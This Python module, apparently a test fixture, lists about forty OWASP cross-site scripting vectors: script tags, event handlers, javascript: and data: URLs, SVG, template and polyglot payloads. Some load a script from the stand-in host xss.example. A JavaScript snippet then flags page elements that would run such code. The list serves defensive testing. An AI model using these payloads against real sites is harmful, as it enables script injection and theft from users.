"""What people who mean harm type where text is asked for: the vectors of OWASP's list, by kind. Shown, they are text."""

import base64

_ENCODED = base64.b64encode(b"<script>alert('XSS')</script>").decode()

VECTORS: dict[str, str] = {
    "script": "<script>alert('XSS')</script>",
    "script from elsewhere": '<SCRIPT SRC="//xss.example/xss.js"></SCRIPT>',
    "script that breaks out": '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "script in a title": "</TITLE><SCRIPT>alert('XSS');</SCRIPT>",
    "script that ends a text": "</textarea><script>alert('XSS')</script>",
    "script in halves": "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "script without an end": "<SCRIPT SRC=//xss.example/xss.js?<B>",
    "script with a slash": "<SCRIPT/XSS SRC='//xss.example/xss.js'></SCRIPT>",
    "picture that fails": "<img src=x onerror=alert('XSS')>",
    "picture with a script for an address": "<IMG SRC=\"javascript:alert('XSS');\">",
    "picture with entities": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "picture with a tab": "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "picture with three quotes": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "picture under the pointer": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "drawing": "<svg/onload=alert('XSS')>",
    "drawing with a script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "drawing with a link": '<svg><a xlink:href="javascript:alert(1)"><text y="20">XSS</text></a></svg>',
    "formula": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "frame": "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "frame with a page": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": f'<OBJECT DATA="data:text/html;base64,{_ENCODED}"></OBJECT>',
    "embedded": '<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" AllowScriptAccess="always"></EMBED>',
    "body": "<BODY ONLOAD=alert('XSS')>",
    "field with the focus": "<input autofocus onfocus=alert('XSS')>",
    "details": "<details open ontoggle=alert('XSS')>",
    "sound": "<video><source onerror=\"alert('XSS')\"></video>",
    "style": "<STYLE>@import'javascript:alert(\"XSS\")';</STYLE>",
    "style of an element": "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "base": "<BASE HREF=\"javascript:alert('XSS');//\">",
    "refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
    "link": "<a href=\"javascript:alert('XSS')\">ici</a>",
    "link alone": "javascript:alert('XSS')",
    "link in light markup": "[ici](javascript:alert('XSS'))",
    "link as data": f"data:text/html;base64,{_ENCODED}",
    "template": "{{constructor.constructor('alert(1)')()}}",
    "template literal": "${alert('XSS')}",
    "attribute": '" onmouseover="alert(\'XSS\')" x="',
    "attribute in single quotes": "' onfocus='alert(1)' autofocus='",
    "all at once": "';alert(1)//\\';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</scRipt/--!>\\x3csVg/oNloAd=alert()//>",
    "wide signs": "＜script＞alert('XSS')＜/script＞",
    "comment": '<!--<img src="--><img src=x onerror=alert(1)//">',
}
"""By what they try."""

SOWN = """() => {
  const isRun = ({ name, value }) => name.startsWith('on') || /^\\s*(javascript:|data:text)/i.test(value)
  const foreign = 'iframe, object, embed, base, math, img[src="x"], img[src="#"], meta[http-equiv=refresh]'
  const sown = [...document.querySelectorAll('*')].filter((each) => [...each.attributes].some(isRun) || each.matches(foreign))
  return sown.map((each) => each.outerHTML.slice(0, 120))
}"""
"""Elements of a page that run something, or that we never make."""
